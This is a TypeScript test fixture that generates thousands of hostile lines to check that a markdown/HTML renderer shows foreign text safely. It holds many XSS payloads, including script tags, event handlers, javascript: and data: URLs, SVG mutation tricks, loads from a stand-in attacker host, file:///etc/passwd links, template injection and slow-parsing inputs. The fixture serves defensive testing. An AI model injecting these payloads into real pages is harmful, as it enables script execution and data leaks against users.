/**
 * Lines of foreign text that have attacked windows like ours, made the same way every time. Whatever shows them must show
 * text: no script may run, no request may leave, no attribute may come from them, and reading them must end soon.
 */

/** Set by a payload that ran: the end-to-end test looks for it on the page's window. */
export const tripwire = '__hearth_hostile_ran';

const run = `window.${tripwire}=1`;
/** Never resolved by anything; a request for it is a leak. */
const host = 'hostile.invalid';

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script src=https://${host}/a.js></script>`,
  `<script/x>${run}</script/x>`,
  `</textarea><script>${run}</script>`,
  `</style></title></noscript><script>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script\u0000>${run}</script>`,
  `<!--><script>${run}</script-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<base href="https://${host}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${host}/">`,
  `<link rel=stylesheet href=https://${host}/a.css>`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src=https://${host}/a.swf>`,
  `<form action="https://${host}"><input name=q autofocus><button formaction="javascript:${run}">go</button></form>`,
];

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerrawupdate',
  'onbeforeinput',
  'onwheel',
  'ONERROR',
  'onerror\t',
  'on\u0000error',
];
const tags = [
  'img',
  'svg',
  'body',
  'details open',
  'video',
  'audio',
  'input autofocus',
  'marquee',
  'iframe',
  'math',
  'a',
  'select',
  'style',
  'x-y',
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61&#x76&#x61script:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://%0a${run}`,
  `jav\u00adascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `file:///etc/passwd`,
  `blob:https://${host}/1`,
  `filesystem:https://${host}/1`,
  `//${host}/x`,
  `\\\\${host}\\share`,
  `https:${host}`,
  `https://good.example@${host}/`,
  `https://good.example\u202e/moc.live//:sptth`,
  `https://g\u043e\u043egle.com/`,
  `https://good.example\u2024${host}/`,
  `https://${host}/\u0000`,
  `smb://${host}/x`,
  `ms-msdt:/id`,
  `app://hearth/settings`,
  `hearth://open?run=1`,
  `chrome://settings`,
  `about:blank`,
  `view-source:https://${host}`,
  `mailto:a@b.c?body=%0d%0abcc:x@y.z`,
  `tel:+1`,
  `__proto__`,
  `constructor`,
];

const styles = [
  `<div style="background:url(https://${host}/a.png)">x</div>`,
  `<p style="width:expression(${run})">x</p>`,
  `<style>@import url(https://${host}/a.css);*{background:url(//${host}/b)}</style>`,
  `<p style="position:fixed;inset:0;z-index:9999">Click to go on</p>`,
  `<b style=behavior:url(#default#time2)>x</b>`,
];

const drawings = [
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<image href=https://${host}/a.png>`,
];

const shapes = [
  (address: string) => `[a](${address})`,
  (address: string) => `[a](<${address}>)`,
  (address: string) => `![a](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[a]: ${address}\n[a]`,
  (address: string) => `[a](${address} "title \\" onmouseover=${run}")`,
  (address: string) => `[![a](${address})](${address})`,
  (address: string) => `| [a](${address}) |\n|-|`,
  (address: string) => `- [x] [a](${address})`,
  (address: string) => `# [a](${address})`,
  (address: string) => `<a href="${address}">a</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
];

const invisible = [
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200e',
  '\ufeff',
  '\u0000',
  '\u001b[31m',
  '\u0007',
  '\ud800',
  '\udfff',
  '\u2028',
  '\u{e0041}',
  '\u061c',
  '\u180e',
  '\ufff9',
  '\uffff',
];

/** Each is short; repeated it nests, leaves open, or makes a grammar look back. */
const units = [
  '[',
  '![',
  '*',
  '_',
  '`',
  '~',
  '~~a ',
  '**a ',
  '_a_b',
  '**a*b__c_',
  '<',
  '<a ',
  '<!--',
  '&',
  'a@',
  'http://a.',
  'www.a',
  '[a](',
  '](',
  '[]',
  '> ',
  '- ',
  '1. ',
  '+ ',
  '- > ',
  '# ',
  '|',
  '|a',
  '|\n',
  '\t',
  '\\',
  '\n',
  '\n\n',
  '```',
  '```\n',
  '``a',
  '~~~\n',
  '***a',
  '!',
  '(',
  '<div>',
  '</b>',
  '[a]:\n',
  '[^',
  'a*',
  'é',
  '\u0301',
  '\u202e',
  '\ud83d',
  '$$',
  '&#',
  '- a\n',
  '> a\n\n',
  '  - a\n',
  '|-',
  '*\u00a0a',
];

/** A small generator with a fixed seed, so that a failure names a line that is there again tomorrow. */
function sequence(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

/** Use in tests of anything that shows foreign text: `count` hostile lines, the same for the same `seed`. */
export function hostileLines(count = 10_000, seed = 19): string[] {
  const next = sequence(seed);
  const pick = <T>(from: readonly T[]): T => from[next(from.length)] as T;
  const kinds: (() => string)[] = [
    () => pick(scripts),
    () => `<${pick(tags)} src=x ${pick(handlers)}=${pick(['', '"', "'", '`'])}${run}${pick(['', '"', "'", '`'])}>`,
    () => `<${pick(tags)}/${pick(handlers)}=${run}//`,
    () => pick(shapes)(pick(addresses)),
    () => pick(shapes)(pick(addresses)),
    () => pick(styles),
    () => pick(drawings),
    () => pick(shapes)(`https://${pick(invisible)}${host}/${pick(invisible)}`),
    () => `${pick(invisible)}${pick(scripts)}${pick(invisible)}`,
    () => pick(units).repeat(1 + next(200)),
    () => Array.from({ length: 1 + next(30) }, () => pick(units)).join(''),
    () =>
      `\`\`\`${pick(['html', 'svg', 'js', 'x" onload="', '<b>', '__proto__', 'constructor', '\u202e'])}\n${pick(scripts)}\n${pick(['```', '``', ''])}`,
    () => `**${pick(scripts)}* \`${pick(drawings)}`,
    () => `{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %>`,
  ];
  return Array.from({ length: count }, (_, at) => (kinds[at % kinds.length] as () => string)());
}

/** Use for time bounds: named texts of about `size` characters that make grammars nest, look back or start over. */
export function hostileTexts(size = 65_536): Record<string, string> {
  const texts: Record<string, string> = {};
  for (const unit of units) texts[JSON.stringify(unit)] = unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  const half = Math.floor(size / 2);
  texts.brackets = '['.repeat(half) + ']'.repeat(half);
  texts.stars = `${'*'.repeat(half)}a${'*'.repeat(half - 1)}`;
  texts.strong = '**a '.repeat(Math.floor(half / 4)) + 'a** '.repeat(Math.floor(half / 4));
  texts.links = '[a]('.repeat(Math.floor(half / 4)) + ')'.repeat(Math.floor(half / 4));
  texts.ticks = Array.from({ length: Math.floor(Math.sqrt(size * 2)) }, (_, n) => '`'.repeat(n + 1)).join(' ');
  texts.list = Array.from({ length: Math.floor(Math.sqrt(size)) }, (_, n) => `${' '.repeat(2 * n)}- a`).join('\n');
  texts.quotes = Array.from({ length: Math.floor(Math.sqrt(size * 2)) }, (_, n) => `${'>'.repeat(n + 1)} a`).join('\n');
  texts.table = `${'|a'.repeat(400)}\n${'|-'.repeat(400)}\n${`${'|b'.repeat(400)}\n`.repeat(Math.floor(size / 801))}`.slice(
    0,
    size,
  );
  texts.definitions = Array.from({ length: Math.floor(size / 30) }, (_, n) => `[a${n}]: https://b.c/${n}`).join('\n');
  texts.paragraph = 'plain words without an end '.repeat(Math.floor(size / 27));
  return texts;
}
